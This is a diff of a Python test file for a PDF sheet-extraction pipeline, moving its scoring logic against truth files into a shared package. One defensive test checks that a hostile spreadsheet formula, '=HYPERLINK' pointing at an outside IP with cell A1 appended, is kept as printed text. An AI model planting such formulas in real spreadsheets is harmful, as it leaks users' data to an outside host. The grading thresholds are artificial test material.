@@ -2,26 +2,21 @@
 
 from __future__ import annotations
 
-import json
-from dataclasses import dataclass, field
 from decimal import Decimal
 from functools import lru_cache
 from pathlib import Path
 from typing import Any
 
 import pytest
+from score import Tally, load_truth, score_sheets
+from score.tally import added
+from score.truth import read_truth
 
 from assets.extract.document import extract_document
 from assets.frames import Frames
 from assets.parse.sheets import parse_sheets
 
 SAMPLES = Path(__file__).parents[1] / "samples"
-NUMBERS = {"execution_weight", "budget", "own_funds", "superior_funds", "weight"}
-PROJECT = [
-    "sheet_code", "project_code", "project_name", "department_name", "category",
-    "execution_weight", "budget", "own_funds", "superior_funds", "summary", "basis", "target",
-]  # fmt: skip
-INDICATOR = ["level1", "level2", "name", "weight", "unit", "operator", "value", "is_core"]
 #: A text layer and its truth, by file: what stands beside each other in the visible corpus.
 VISIBLE = [
     *(f"batch-1/a{number:02}" for number in (1, 2, 3, 4, 7, 8, 9, 10, 11, 12)),
@@ -29,107 +24,41 @@ VISIBLE = [
 ]
 
 
-@dataclass
-class Score:
-    """Fields compared, those that differ, and places (pages) likewise."""
-
-    fields: int = 0
-    places: int = 0
-    wrong: list[str] = field(default_factory=list)
-    misplaced: list[str] = field(default_factory=list)
-
-    @property
-    def exact(self) -> float:
-        return 1 - len(self.wrong) / self.fields
-
-    @property
-    def placed(self) -> float:
-        return 1 - len(self.misplaced) / self.places
-
-
 @lru_cache(maxsize=4)
 def sheets_of(pdf: Path) -> Frames:
     return parse_sheets(extract_document(pdf, pdf.stem))
 
 
-def compare(got: Frames, truth: dict[str, Any]) -> Score:
-    """Compare projects and indicators; a row too many or too few is wrong as well."""
-    score = Score()
-    projects = {row["sheet_no"]: row for row in got["projects"].to_dicts()}
-    rows = {(row["sheet_no"], row["indicator_no"]): row for row in got["indicators"].to_dicts()}
-    expected = {(row["sheet_no"], row["indicator_no"]) for row in truth["indicators"]}
-    score.wrong.extend(f"extra sheet {no}" for no in projects.keys() - _numbers(truth))
-    score.wrong.extend(f"extra indicator {key}" for key in rows.keys() - expected)
-    for row in truth["projects"]:
-        mine = projects.get(row["sheet_no"], {})
-        _fields(score, f"sheet {row['sheet_no']}", PROJECT, row, mine)
-        _places(score, f"sheet {row['sheet_no']}", ("page_from", "page_to"), row, mine)
-    for row in truth["indicators"]:
-        key = (row["sheet_no"], row["indicator_no"])
-        if row.get("optional") and key not in rows:
-            continue
-        _fields(score, f"indicator {key}", INDICATOR, row, rows.get(key, {}))
-        _places(score, f"indicator {key}", ("page",), row, rows.get(key, {}))
-    return score
-
-
-def _numbers(truth: dict[str, Any]) -> set[int]:
-    return {row["sheet_no"] for row in truth["projects"]}
-
-
-def _fields(
-    score: Score, where: str, names: list[str], row: dict[str, Any], mine: dict[str, Any]
-) -> None:
-    for name in names:
-        if name == "unit" and row.get("printed_value") == row["value"]:
-            # Words alone: the unit in the truth is not printed.
-            continue
-        score.fields += 1
-        accepted = [row[name], *row.get(f"{name}_accept", [])]
-        if name in NUMBERS:
-            accepted = [None if value is None else Decimal(value) for value in accepted]
-        if mine.get(name, "absent") not in accepted:
-            score.wrong.append(f"{where} {name}: {mine.get(name)!r}, not {row[name]!r}")
-
-
-def _places(
-    score: Score, where: str, names: tuple[str, ...], row: dict[str, Any], mine: dict[str, Any]
-) -> None:
-    for name in names:
-        score.places += 1
-        if row[name] != mine.get(name):
-            score.misplaced.append(f"{where} {name}: {mine.get(name)}, not {row[name]}")
-
-
-def truth_of(path: Path) -> dict[str, Any]:
-    loaded: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
-    return loaded
+def score_of(got: Frames, truth: dict[str, Any]) -> Tally:
+    """The fields of projects and indicators together."""
+    return added(score_sheets(truth, got["projects"].to_dicts(), got["indicators"].to_dicts()))
 
 
 @pytest.mark.parametrize("name", sorted(path.stem for path in SAMPLES.glob("*.pdf")))
 def test_samples(name: str) -> None:
-    score = compare(sheets_of(SAMPLES / f"{name}.pdf"), truth_of(SAMPLES / f"{name}.truth.json"))
-    assert score.fields > 300
-    assert not score.wrong
+    pdf = SAMPLES / f"{name}.pdf"
+    score = score_of(sheets_of(pdf), load_truth(pdf))
+    assert score.expected > 300
+    assert not score.differences
     # A truth file names the first page of its sheet on which an indicator's words occur.
-    assert score.placed > 0.93, score.misplaced
+    assert score.in_place > 0.93, score.misplaced
 
 
 @pytest.mark.corpus
 @pytest.mark.parametrize("name", VISIBLE)
 def test_visible(corpus: Path, name: str) -> None:
     pdf = corpus / "visible" / f"{name}.pdf"
-    score = compare(sheets_of(pdf), truth_of(pdf.with_suffix(".truth.json")))
-    assert score.fields > 300
-    assert not score.wrong
-    assert score.placed > 0.93, score.misplaced
+    score = score_of(sheets_of(pdf), load_truth(pdf))
+    assert score.expected > 300
+    assert not score.differences
+    assert score.in_place > 0.93, score.misplaced
 
 
 @pytest.mark.corpus
 def test_text_like_code_is_kept_as_it_is_printed(corpus: Path) -> None:
     hostile = corpus / "visible" / "hostile"
-    score = compare(sheets_of(hostile / "formula.pdf"), truth_of(hostile / "06.truth.json"))
-    assert score.exact > 0.995, score.wrong
+    score = score_of(sheets_of(hostile / "formula.pdf"), read_truth(hostile / "06.truth.json"))
+    assert min(score.recall, score.precision) > 0.995, score.differences
     names = sheets_of(hostile / "formula.pdf")["projects"]["project_name"].to_list()
     assert '=HYPERLINK("http://203.0.113.9/?q="&A1,"点击查看")' in names
 
@@ -137,13 +66,13 @@ def test_text_like_code_is_kept_as_it_is_printed(corpus: Path) -> None:
 @pytest.mark.corpus
 def test_seed(corpus: Path) -> None:
     seed = corpus / "seed"
-    truth = truth_of(seed / "seed.truth.json")
+    truth = read_truth(seed / "seed.truth.json")
     got = sheets_of(seed / "seed-writer.pdf")
-    score = compare(got, truth)
+    score = score_of(got, truth)
     assert (got["projects"].height, got["indicators"].height) == (36, 243)
-    assert score.fields > 2300
-    assert not score.wrong
-    assert score.placed > 0.97, score.misplaced
+    assert score.expected > 2300
+    assert not score.differences
+    assert score.in_place > 0.97, score.misplaced
 
 
 @pytest.mark.corpus
